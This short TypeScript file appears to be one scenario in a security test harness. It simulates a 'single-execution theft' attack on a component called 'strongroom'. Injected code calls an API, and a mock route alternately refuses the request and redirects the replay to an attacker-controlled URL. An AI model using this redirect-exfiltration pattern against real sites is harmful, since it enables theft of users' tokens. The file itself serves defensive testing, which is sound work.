import { attack } from "../attack.js";

export default attack({
  name: "uses an API that refuses the token and redirects the replay",
  threat: "single-execution theft",
  target: "strongroom",
  async payload() {
    for (const init of [{}, { method: "POST", body: "x" }, { mode: "no-cors" }] as RequestInit[]) {
      await fetch("/api/v1/hostile-second", init).catch(() => {});
    }
  },
  async play(stage) {
    let tries = 0;
    stage.site.routes.set("/api/v1/hostile-second", (_request, response) => {
      tries += 1;
      if (tries % 2 === 1) response.writeHead(401).end();
      else
        response.writeHead(307, { location: `${stage.facts.attackerUrl}${stage.attackerPath}/second` }).end();
    });
    await stage.openSignedIn();
    await stage.inject();
  },
});
